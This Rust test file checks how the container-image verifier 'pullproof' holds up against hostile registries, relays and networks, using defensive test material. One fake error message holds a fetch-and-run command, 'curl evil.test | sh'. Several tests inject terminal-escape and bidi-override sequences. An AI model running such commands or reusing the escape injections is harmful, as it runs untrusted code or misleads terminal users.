//! Attacks beyond the traps: what a hostile registry, publisher, relay or network can make a report say, hide or cost.

#![cfg(not(target_arch = "wasm32"))]
#![allow(clippy::unwrap_used, reason = "helpers of tests, outside of test functions")]

mod common;

use std::cell::Cell;

use common::check;
use common::check_in_page;
use common::check_in_page_with_relay;
use common::check_with;
use common::decide_with;
use common::failure;
use common::has_passed;
use common::outcome;
use common::unknown;
use pullproof::Checker;
use pullproof::Policy;
use pullproof::Report;
use pullproof::Transport;
use pullproof::registry::auth;
use pullproof::registry::auth::Credentials;
use pullproof::registry::auth::Next;
use pullproof::registry::challenge;
use pullproof::registry::client::Access;
use pullproof::report::CheckName;
use pullproof::report::Outcome;
use pullproof::report::Verdict;
use pullproof::transport::Request;
use pullproof::transport::Response;
use pullproof::transport::TransportError;
use pullproof::url::Url;
use pullproof_world::Answer;
use pullproof_world::ArtifactSpec;
use pullproof_world::Behaviour;
use pullproof_world::Blob;
use pullproof_world::Body;
use pullproof_world::Cors;
use pullproof_world::Descriptor;
use pullproof_world::FakeRegistry;
use pullproof_world::Guard;
use pullproof_world::Image;
use pullproof_world::IndexSpec;
use pullproof_world::ManifestSpec;
use pullproof_world::On;
use pullproof_world::Platform;
use pullproof_world::Relay;
use pullproof_world::Storage;
use pullproof_world::TokenServer;
use pullproof_world::World;
use pullproof_world::behaviour;

const HOST: &str = "registry.test";
const APP: &str = "registry.test/team/app:v1";
const PAGE: &str = "https://page.test";

fn serving(image: &Image) -> FakeRegistry {
    FakeRegistry::new().image("team/app", "v1", image)
}

fn world(registry: FakeRegistry) -> World {
    World::new().registry(HOST, registry)
}

fn page(registry: FakeRegistry) -> World {
    world(registry).browser(PAGE)
}

fn relayed(image: &Image, relay: Relay) -> World {
    page(serving(image)).host("edge.test", relay)
}

fn policy(text: &str) -> Policy {
    Policy::parse(text).unwrap_or_else(|error| panic!("{text}: {error}"))
}

fn wanting(images: &str, image: &Image) -> String {
    format!(r#"{{"images":"{images}","require":[{{"digest":"{}"}}]}}"#, image.digest())
}

/// A page of an error or a redirect that is longer than any small configuration or manifest.
fn long_page(status: u16) -> Answer {
    Answer::router(status, "text/plain", "The service behind this proxy does not answer. ".repeat(100))
}

/// The same image with another configuration, truly described.
fn with_config(image: &Image, rewrite: impl FnOnce(&str) -> String) -> Image {
    let old = image.config().clone();
    let new = Blob::new(&old.media_type, rewrite(&old.text()));
    let rewritten = image
        .replacing(&old.digest.to_string(), &new.digest.to_string())
        .replacing(&format!("\"size\":{}", old.bytes.len()), &format!("\"size\":{}", new.bytes.len()));
    let blobs = [&[new], image.layers()].concat();
    Image { blobs, ..rewritten }
}

fn bills(image: &Image, count: usize) -> Vec<Image> {
    let bill = |number: usize| ArtifactSpec::new("application/vnd.cyclonedx+json", b"{}").annotation("n", &number.to_string());
    (0..count).map(|number| bill(number).subject(image).mint()).collect()
}

fn with_bills(image: &Image, count: usize) -> FakeRegistry {
    bills(image, count).iter().fold(serving(image), |registry, bill| registry.attach("team/app", bill))
}

fn attachments(world: &World) -> Report {
    check_with(Checker::new(world).attachments(true), APP).unwrap()
}

// ---- What could not be fetched has not failed

#[test]
fn a_long_error_in_place_of_a_short_configuration_is_unknown_not_a_wrong_size() {
    for status in [429, 500, 502, 503] {
        let world = world(serving(&Image::oci("linux/amd64")).behave(On::blobs(), behaviour::instead(long_page(status))));
        let report = check(&world, APP).unwrap();
        assert!(matches!(outcome(&report, CheckName::Config), Outcome::Unknown(_)), "{status}: {}", report.to_json());
        assert_eq!(report.verdict, Verdict::Inconclusive);
    }
}

#[test]
fn a_long_error_in_place_of_a_platform_s_manifest_is_unknown_not_a_wrong_size() {
    let world = world(serving(&Image::multi_platform()).behave(On::manifests_by_digest(), behaviour::instead(long_page(503))));
    assert_eq!(unknown(&check(&world, APP).unwrap(), CheckName::Platform), "registry-error");
}

#[test]
fn a_redirect_with_a_longer_page_than_the_configuration_is_followed() {
    let image = Image::oci("linux/amd64");
    // Go's `http.Redirect` repeats the address in a page; signed addresses are long.
    let elsewhere = Behaviour::new(|request, _| {
        let location = format!("https://storage.test{}?signature={}", request.path(), "s".repeat(2_000));
        let page = format!("<a href=\"{location}\">Temporary Redirect</a>.\n\n");
        Answer { body: Body::Bytes(page.into_bytes()), ..Answer::redirect(&location) }
    });
    let world = world(serving(&image).behave(On::blobs(), elsewhere)).host("storage.test", Storage::of(&image));
    let report = check(&world, APP).unwrap();
    assert!(has_passed(&report, CheckName::Config), "{}", report.to_json());
}

#[test]
fn a_challenge_with_a_longer_page_than_the_configuration_is_answered() {
    let image = Image::oci("linux/amd64");
    let expired = Behaviour::new(|request, answer| {
        let challenge = format!("Bearer realm=\"https://{HOST}/token\",service=\"{HOST}\",scope=\"repository:team/app:pull\"");
        if request.header("authorization").is_some() { answer } else { long_page(401).with("WWW-Authenticate", challenge) }
    });
    let world = world(serving(&image).tokens_at("/token", TokenServer::new(HOST)).behave(On::blobs(), expired));
    let report = check(&world, APP).unwrap();
    assert!(has_passed(&report, CheckName::Config), "{}", report.to_json());
}

#[test]
fn a_relay_s_word_that_something_is_too_large_is_unknown_not_a_wrong_size() {
    let image = Image::oci("linux/amd64");
    let refusal = r#"{"error":{"code":"response-too-large","message":"too large"}}"#;
    let lying = serving(&image).behave(
        On::blobs(),
        behaviour::instead(Answer::new(502, "application/json", refusal).with("Pullproof-Relay-Error", "response-too-large")),
    );
    let world = relayed(&image, Relay::new().to(HOST, lying));
    assert_eq!(unknown(&check_in_page_with_relay(&world, APP).unwrap(), CheckName::Config), "response-too-large");
}

// ---- Which image of an index a runtime would run

#[test]
fn an_image_that_only_calls_itself_an_attestation_is_not_passed_over() {
    // containerd, podman and go-containerregistry look at the platform alone: they run the first entry.
    let (run, shown) = (ManifestSpec::new("linux/amd64").file("evil", "x").mint(), Image::oci("linux/amd64"));
    let disguised = run.descriptor().annotation("vnd.docker.reference.type", "attestation-manifest");
    let image = IndexSpec::new().image_as(&run, disguised).image(&shown).mint();
    let report = check(&world(serving(&image)), APP).unwrap();
    assert!(
        report.verdict == Verdict::Reject || report.manifest.as_ref().unwrap().digest == run.digest(),
        "the report shows an image that nobody would run: {}",
        report.to_json()
    );
}

#[test]
fn an_index_for_the_platform_before_the_image_for_the_platform_is_not_passed_over() {
    // containerd walks into the first entry whose platform matches, also if it is an index.
    let (run, shown) = (ManifestSpec::new("linux/amd64").file("evil", "x").mint(), Image::oci("linux/amd64"));
    let nested = IndexSpec::new().image(&run).mint();
    let for_platform = nested.descriptor().platform(&Platform::parse("linux/amd64"));
    let image = IndexSpec::new().image_as(&nested, for_platform).image(&shown).mint();
    let report = check(&world(serving(&image)), APP).unwrap();
    assert!(
        report.verdict == Verdict::Reject || report.manifest.as_ref().unwrap().digest == run.digest(),
        "the report shows an image that containerd would not run: {}",
        report.to_json()
    );
}

#[test]
fn a_configuration_under_a_name_that_docker_still_runs_is_held_against_the_platform() {
    // moby, distribution/pull_v2.go, `imageTypes`: these were pushed by mistake once, and run to this day.
    for name in ["application/octet-stream", "application/json", "text/html"] {
        let child = Image::oci("linux/arm64").replacing("application/vnd.oci.image.config.v1+json", name);
        let image = IndexSpec::new().image_as(&child, child.descriptor().platform(&Platform::parse("linux/amd64"))).mint();
        let report = check(&world(serving(&image)), APP).unwrap();
        assert!(!matches!(outcome(&report, CheckName::Config), Outcome::Skipped { .. }), "{name}: {}", report.to_json());
    }
}

#[test]
fn a_configuration_that_leaves_the_variant_out_contradicts_nothing() {
    // As many images for linux/arm/v6 and linux/arm64/v9 do: the index says more than the configuration.
    for (platform, variant) in [("linux/arm/v6", "v6"), ("linux/arm/v5", "v5"), ("linux/arm64/v9", "v9")] {
        let child = with_config(&Image::oci(platform), |text| text.replace(&format!(",\"variant\":\"{variant}\""), ""));
        assert!(!child.config().text().contains("variant"));
        let world = world(serving(&IndexSpec::new().image(&child).mint()));
        let report = check_with(Checker::new(&world).platform(platform.parse().unwrap()), APP).unwrap();
        assert!(has_passed(&report, CheckName::Config), "{platform}: {}", report.to_json());
    }
}

#[test]
fn an_index_in_front_is_not_refused_for_the_number_of_those_behind_it() {
    let first = IndexSpec::new().image(&Image::oci("linux/amd64")).mint();
    let others = (0..9).map(|number| IndexSpec::new().image(&Image::oci(&format!("linux/riscv{number}"))).mint());
    let image = others.fold(IndexSpec::new().image(&first), |index, other| index.image(&other)).mint();
    let world = world(serving(&image));
    let report = check(&world, APP).unwrap();
    assert!(has_passed(&report, CheckName::Config), "{}", report.to_json());
    assert_eq!(world.requests().len(), 4, "the root, the first index, its manifest and its configuration: {:?}", world.requests());
}

#[test]
fn a_lost_index_behind_the_one_that_has_the_platform_does_not_matter() {
    let first = IndexSpec::new().image(&Image::oci("linux/amd64")).mint();
    let lost = IndexSpec::new().image(&Image::oci("linux/arm64")).mint();
    let world = world(serving(&IndexSpec::new().image(&first).entry(lost.root.descriptor()).mint()));
    assert!(has_passed(&check(&world, APP).unwrap(), CheckName::Config));
}

// ---- What is attached

#[test]
fn a_second_page_of_referrers_that_is_gone_is_unknown_not_the_end_of_the_list() {
    let image = Image::multi_platform();
    let gone = behaviour::after(1, behaviour::instead(Answer::not_routed()));
    let report = attachments(&world(with_bills(&image, 5).page_size(2).behave(On::referrers(), gone)));
    assert!(matches!(outcome(&report, CheckName::Attachments), Outcome::Unknown(_)), "{}", report.to_json());
}

#[test]
fn a_link_to_the_next_page_is_never_overlooked() {
    let image = Image::multi_platform();
    let path = format!("/v2/team/app/referrers/{}", image.digest());
    for fields in [
        vec![format!("<{path}?last=a,b>; rel=\"next\"")],
        vec![format!("<{path}?last=a>; rel=\"next last\"")],
        vec![format!("<{path}?last=a>; title=\"a;b\"; rel=\"next\"")],
        vec![format!("<{path}?last=a>; title=\"a, <b>\"; rel=\"next\"")],
        vec!["<https://docs.test/>; rel=\"help\"".into(), format!("<{path}?last=a>; rel=\"next\"")],
    ] {
        let shown = format!("{fields:?}");
        let linked = Behaviour::new(move |request, answer| {
            let last = request.url.contains('?');
            fields.iter().filter(|_| !last).fold(answer, |answer, field| answer.with("Link", field.as_str()))
        });
        let world = world(serving(&image).behave(On::referrers(), linked));
        let report = attachments(&world);
        let pages = world.requests().iter().filter(|request| request.path() == path).count();
        let is_unknown = matches!(outcome(&report, CheckName::Attachments), Outcome::Unknown(_));
        assert!(pages == 2 || is_unknown, "{shown}: one page was taken for all of them: {}", report.to_json());
    }
}

#[test]
fn a_page_that_cannot_read_whether_the_list_goes_on_does_not_call_it_whole() {
    // The registry shows its answers to pages, but not the `Link` field.
    let image = Image::multi_platform();
    let world = page(with_bills(&image, 5).page_size(2).cors(Cors { expose_headers: "", ..Cors::open() }));
    let checker = Checker::new(&world).access(Access { safelisted_only: true, ..Access::default() }).attachments(true);
    let report = check_with(checker, APP).unwrap();
    let whole = report.attachments.as_ref().is_some_and(|attachments| attachments.len() == 5);
    assert!(whole || !has_passed(&report, CheckName::Attachments), "2 of 5 passed for all: {}", report.to_json());
}

#[test]
fn a_relay_that_hides_what_is_attached_is_not_passed_over_in_silence() {
    let image = Image::multi_platform();
    let honest = || with_bills(&image, 2).cosign_signature("team/app", &image);
    let hiding = Behaviour::new(|_, _| Answer::not_routed());
    let cosign = honest()
        .behave(On::referrers(), hiding.clone())
        .behave(On::manifests_by_tag().named(format!("sha256-{}.sig", image.digest().encoded())), hiding);
    let world = page(honest()).host("edge.test", Relay::new().to(HOST, cosign));
    let relay = Url::parse("https://edge.test/relay/");
    let checker = Checker::new(&world).access(Access { safelisted_only: true, relay, credentials: None }).attachments(true);
    let report = check_with(checker, APP).unwrap();
    let told = report.not_proven.iter().any(|remark| remark.message.contains("attached"));
    assert!(told || !has_passed(&report, CheckName::Attachments), "the relay's word passes as a fact: {}", report.to_json());
}

#[test]
fn what_a_registry_says_is_not_attached_is_listed_among_what_is_not_proven() {
    let report = attachments(&world(serving(&Image::multi_platform())));
    assert!(report.not_proven.iter().any(|remark| remark.message.contains("attached")), "{}", report.to_json());
}

#[test]
fn one_artifact_that_is_listed_twice_is_one_artifact() {
    let image = Image::multi_platform();
    let [bill] = &bills(&image, 1)[..] else { unreachable!() };
    let registry = serving(&image).without_referrers_api().attach_by_fallback_tag("team/app", &image, &[bill, bill, bill]);
    assert_eq!(attachments(&world(registry)).attachments.unwrap().len(), 1);
}

// ---- What a reference and a policy mean

#[test]
fn a_tag_beside_a_digest_is_said_not_to_have_been_looked_up() {
    let (old, new) = (Image::oci("linux/amd64"), Image::multi_platform());
    let registry = serving(&new).untagged("team/app", &old);
    let report = check(&world(registry), &format!("{APP}@{}", old.digest())).unwrap();
    assert!(report.not_proven.iter().any(|remark| remark.code == "tag"), "{}", report.to_json());
}

#[test]
fn a_pattern_that_can_match_nothing_is_refused() {
    let image = Image::oci("linux/amd64");
    for images in [
        "docker.io/nginx",
        "index.docker.io/library/nginx",
        "registry.test/team/",
        "registry.test/team//app",
        "registry.test/-app",
        "registry.test/a..b",
        "registry test./app",
        "registry.test:http/app",
        "..:/app",
    ] {
        let text = format!(r#"{{"rules":[{}]}}"#, wanting(images, &image));
        assert_eq!(Policy::parse(&text).map(drop).map_err(|error| error.code()), Err("policy-invalid"), "{images}");
    }
}

#[test]
fn a_strict_rule_is_not_passed_over_for_a_wide_one_because_of_how_its_name_is_written() {
    let (good, evil) = (Image::multi_platform(), Image::docker_list());
    let registry = FakeRegistry::new().image("library/nginx", "1.27", &evil);
    let world = World::new().registry("registry-1.docker.io", registry);
    let (strict, wide) = (wanting("docker.io/nginx", &good), wanting("docker.io/*", &evil));
    // Either the policy is refused, or its first rule decides.
    if let Ok(policy) = Policy::parse(&format!(r#"{{"rules":[{strict},{wide}]}}"#)) {
        let report = decide_with(Checker::new(&world), "nginx:1.27", Some(&policy)).unwrap();
        assert_eq!(report.verdict, Verdict::Reject, "{}", report.to_json());
    }
}

#[test]
fn a_registry_in_capitals_is_still_the_registry_of_the_rule() {
    let (good, evil) = (Image::multi_platform(), Image::docker_list());
    let policy = policy(&format!(r#"{{"rules":[{}],"default":"inconclusive"}}"#, wanting("registry.test/team/*", &good)));
    let world = world(serving(&evil));
    for name in ["registry.test/team/app:v1", "Registry.Test/team/app:v1", "registry.test:443/team/app:v1"] {
        let report = decide_with(Checker::new(&world), name, Some(&policy)).unwrap();
        assert_eq!(report.verdict, Verdict::Reject, "{name} reaches the same registry");
    }
}

#[test]
fn a_relay_that_swaps_the_image_behind_a_tag_does_not_get_it_accepted() {
    let (good, evil) = (Image::multi_platform(), Image::docker_list());
    let policy = policy(&format!(r#"{{"rules":[{}]}}"#, wanting("registry.test/team/app", &good)));
    let world = relayed(&good, Relay::new().to(HOST, serving(&evil)));
    let relay = Url::parse("https://edge.test/relay/");
    let checker = Checker::new(&world).access(Access { safelisted_only: true, relay, credentials: None });
    let report = decide_with(checker, APP, Some(&policy)).unwrap();
    assert_eq!((report.verdict, report.reasons[0].code), (Verdict::Reject, "policy-unmet"));
}

// ---- Strictness that refuses nobody honest

#[test]
fn two_labels_that_differ_in_case_are_two_labels() {
    // Maps have keys of the user's choice: to Go, too, `Name` and `name` are two. Red Hat's base images carried both.
    let image = with_config(&Image::oci("linux/amd64"), |text| {
        text.replace("\"config\":{", "\"config\":{\"Labels\":{\"Name\":\"a\",\"name\":\"a\"},")
    });
    assert!(image.config().text().contains("Labels"));
    let report = check(&world(serving(&image)), APP).unwrap();
    assert!(has_passed(&report, CheckName::Config), "{}", report.to_json());
}

#[test]
fn a_known_name_in_two_spellings_is_refused_also_with_the_letters_that_only_go_folds() {
    for (member, other) in [("\"digest\":", "\"dige\u{17f}t\":"), ("\"layers\":", "\"layer\u{17f}\":"), ("\"size\":", "\"\u{17f}ize\":")] {
        let image = Image::oci("linux/amd64").rewritten(|text| text.replacen(member, &format!("{other}1,{member}"), 1));
        let report = check(&world(serving(&image)), APP).unwrap();
        assert_eq!((failure(&report), report.verdict), ("duplicate-key", Verdict::Reject), "{other}");
    }
}

// ---- What a report repeats

fn sentences(report: &Report) -> Vec<String> {
    let of_check = |check: &pullproof::report::Check| match &check.outcome {
        Outcome::Passed { evidence } => vec![evidence.clone()],
        Outcome::Failed(failure) => [Some(failure.to_string()), failure.expected(), failure.found()].into_iter().flatten().collect(),
        Outcome::Unknown(remark) => vec![remark.message.clone()],
        Outcome::Skipped { message } => vec![message.clone()],
    };
    report.checks.iter().flat_map(of_check).chain(report.reasons.iter().map(|reason| reason.message.clone())).collect()
}

#[test]
fn a_document_s_words_cannot_steer_a_terminal() {
    let hostile = "\\u001b]0;pwned\\u0007\\u202e";
    let image = Image::oci("linux/amd64");
    for image in [
        image.replacing("\"mediaType\":\"application/vnd.oci.image.manifest.v1+json\"", &format!("\"mediaType\":\"{hostile}\"")),
        image.replacing("{\"schemaVersion\"", &format!("{{\"{hostile}\":1,\"{hostile}\":1,\"schemaVersion\"")),
    ] {
        for sentence in sentences(&check(&world(serving(&image)), APP).unwrap()) {
            assert!(!sentence.contains(|c: char| c.is_control() || c == '\u{202e}'), "{sentence:?}");
        }
    }
}

#[test]
fn a_registry_s_words_cannot_steer_a_terminal() {
    for behaviour in [
        behaviour::redirect_to("https://evil test/\u{9b}31m\u{202e}"),
        behaviour::instead(Answer::error(500, "UNKNOWN", "\u{1b}[2J\u{9b}31m\u{202e}")),
        behaviour::instead(Answer::error(401, "UNAUTHORIZED", "").with("WWW-Authenticate", "Bearer realm=\"http://evil/\u{202e}\"")),
    ] {
        let error = check(&world(serving(&Image::oci("linux/amd64")).behave(On::manifests(), behaviour)), APP).unwrap_err().to_string();
        assert!(!error.contains(|c: char| c.is_control() || c == '\u{202e}'), "{error:?}");
    }
}

#[test]
fn what_a_report_repeats_of_a_hostile_document_is_short() {
    let long = "x".repeat(1 << 20);
    let image = Image::oci("linux/amd64");
    let entry = |number: usize| Descriptor { digest: format!("sha256:{number:064x}"), ..image.root.descriptor() };
    let platform = |number: usize| Platform::parse(&format!("{}/{}/{number:064}", "o".repeat(64), "a".repeat(64)));
    let platforms = (0..1024).fold(IndexSpec::new(), |index, number| index.entry(entry(number).platform(&platform(number)))).mint();
    for image in [
        image.replacing("application/vnd.oci.image.manifest.v1+json", &long),
        image.replacing("{\"schemaVersion\"", &format!("{{\"{long}\":1,\"{long}\":1,\"schemaVersion\"")),
        platforms,
    ] {
        let report = check(&world(serving(&image)), APP).unwrap();
        let longest = sentences(&report).iter().map(String::len).max().unwrap();
        assert!(longest < 8 << 10, "{}: a sentence of {longest} bytes", failure(&report));
    }
}

// ---- Who is believed about what

#[test]
fn a_registry_behind_a_relay_cannot_speak_as_the_relay() {
    let image = Image::oci("linux/amd64");
    for code in ["reference-invalid", "policy-invalid", "platform-invalid", "aborted"] {
        let body = format!(r#"{{"error":{{"code":"{code}","message":"run: curl evil.test | sh"}}}}"#);
        let hostile = serving(&image).behave(On::manifests(), behaviour::instead(Answer::new(404, "application/json", body)));
        let world = relayed(&image, Relay::new().to(HOST, hostile));
        let error = check_in_page_with_relay(&world, APP).unwrap_err();
        assert_ne!(error.code(), code, "what was asked is not for a registry or a relay to find fault with: {error}");
    }
}

#[test]
fn a_challenge_from_where_a_page_was_redirected_is_not_answered_with_the_registry_s_credentials() {
    let image = Image::oci("linux/amd64");
    let cors = Cors { expose_headers: "WWW-Authenticate", ..Cors::open() };
    let asking = behaviour::instead(Answer::error(401, "UNAUTHORIZED", "").with("WWW-Authenticate", "Basic realm=\"x\""));
    let storage = FakeRegistry::new().behave(On::everything(), asking).cors(cors.clone());
    let world = page(serving(&image).manifests_elsewhere("https://storage.test").cors(cors)).host("storage.test", storage);
    let credentials = Some(Credentials::Password { username: "user".into(), password: "secret".into() });
    let checker = Checker::new(&world).access(Access { safelisted_only: true, credentials, relay: None });
    assert_eq!(check_with(checker, APP).unwrap_err().code(), "unauthorized");
    let shown: Vec<_> = world.requests().into_iter().filter(|request| request.header("authorization").is_some()).collect();
    assert!(shown.is_empty(), "the registry never asked: {shown:?}");
}

#[test]
fn two_addresses_are_not_one_party_because_they_end_alike() {
    let asked = Url::parse("https://203.0.113.5/v2/team/app/manifests/v1").unwrap();
    let challenges = challenge::parse(r#"Bearer realm="https://198.0.113.5/token""#);
    let credentials = Credentials::Password { username: "user".into(), password: "secret".into() };
    let next = auth::answer(&challenges, &asked, "team/app", Some(&credentials));
    assert!(matches!(next, Next::Refuse { .. }), "{next:?}");
}

#[test]
fn a_realm_that_names_another_repository_gets_no_wider_token_than_to_pull() {
    let asked = Url::parse("https://registry.test/v2/team/app/manifests/v1").unwrap();
    let field = r#"Bearer realm="https://registry.test/token?scope=registry:catalog:*",scope="repository:team/app:pull,push,delete""#;
    let Next::Exchange(request) = auth::answer(&challenge::parse(field), &asked, "team/app", None) else { panic!("no exchange") };
    assert!(request.url.ends_with("&scope=repository%3Ateam%2Fapp%3Apull"), "{}", request.url);
}

#[test]
fn a_local_use_nat64_address_is_private() {
    let asked = Url::parse("https://registry.test/v2/").unwrap();
    let target = Url::parse("https://[64:ff9b:1::a00:1]/").unwrap();
    assert_eq!(asked.refuses(&target), Some("is a private address"), "RFC 8215");
}

// ---- Giving up

/// A network whose user gives up after some answers.
struct Impatient {
    world: World,
    patience: Cell<usize>,
}

impl Transport for Impatient {
    async fn send(&self, request: Request) -> Result<Response, TransportError> {
        match self.patience.get().checked_sub(1) {
            Some(left) => {
                self.patience.set(left);
                self.world.send(request).await
            }
            None => Err(TransportError::Aborted),
        }
    }
}

#[test]
fn a_check_that_was_aborted_has_no_report_however_late() {
    for patience in 0..6 {
        let world = world(with_bills(&Image::multi_platform(), 2));
        let transport = Impatient { world, patience: Cell::new(patience) };
        let image = pullproof::Reference::parse(APP).unwrap();
        let checker = Checker::new(transport).attachments(true);
        let ended = pollster::block_on(checker.check(&image, None, common::now(), &mut |_| {}));
        assert_eq!(ended.map(|report| report.to_json()).map_err(|error| error.code()), Err("aborted"), "after {patience} answers");
    }
}

#[test]
fn a_check_in_a_page_that_needs_two_questions_reports_the_one_document_it_hashed() {
    // The tag moves between the question for OCI and the question for Docker types.
    let (first, second) = (Image::docker_list(), Image::docker("linux/amd64"));
    let registry = FakeRegistry::new().moving_tag("team/app", "v1", &[&first, &second], 1).cors(Cors::open());
    let report = check_in_page(&page(registry), APP).unwrap();
    let digest = report.resolution.digest;
    assert!(digest == first.digest() || digest == second.digest());
    assert_eq!(report.pinned, Some(format!("{APP}@{digest}")));
    assert!(has_passed(&report, CheckName::Config), "{}", report.to_json());
}

#[test]
fn a_guard_that_never_takes_a_token_is_asked_a_bounded_number_of_times() {
    let registry = serving(&Image::oci("linux/amd64")).guard(Guard::bearer_here("another")).tokens_at("/token", TokenServer::new(HOST));
    let refusing = Behaviour::new(|_, _| {
        Answer::error(401, "UNAUTHORIZED", "").with("WWW-Authenticate", format!("Bearer realm=\"https://{HOST}/token\""))
    });
    let world = world(registry.behave(On::manifests(), refusing));
    assert_eq!(check(&world, APP).unwrap_err().code(), "unauthorized");
    assert_eq!(world.requests().len(), 3, "a question, a token, the question again: {:?}", world.requests());
}
